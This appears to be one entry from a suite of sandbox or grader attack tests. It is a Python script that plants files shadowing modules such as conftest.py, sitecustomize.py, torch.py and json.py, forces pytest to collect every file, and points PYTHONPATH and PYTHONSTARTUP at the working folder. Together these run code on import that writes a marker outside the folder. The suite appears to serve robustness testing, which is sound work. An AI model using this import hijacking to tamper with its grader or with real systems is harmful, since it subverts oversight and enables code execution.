# /// attack
# title = "conftest.py, sitecustomize.py, torch.py, pytest.ini written into the working folder"
# earned = [3, 1]
# ///
# %%
import os

code = f"open({OUTSIDE + '/imported'!r}, 'w').write('x')"
for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "torch.py", "course_lib.py", "json.py"):
    open(name, "w").write(code)
open("pytest.ini", "w").write("[pytest]\npython_files = *\n")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
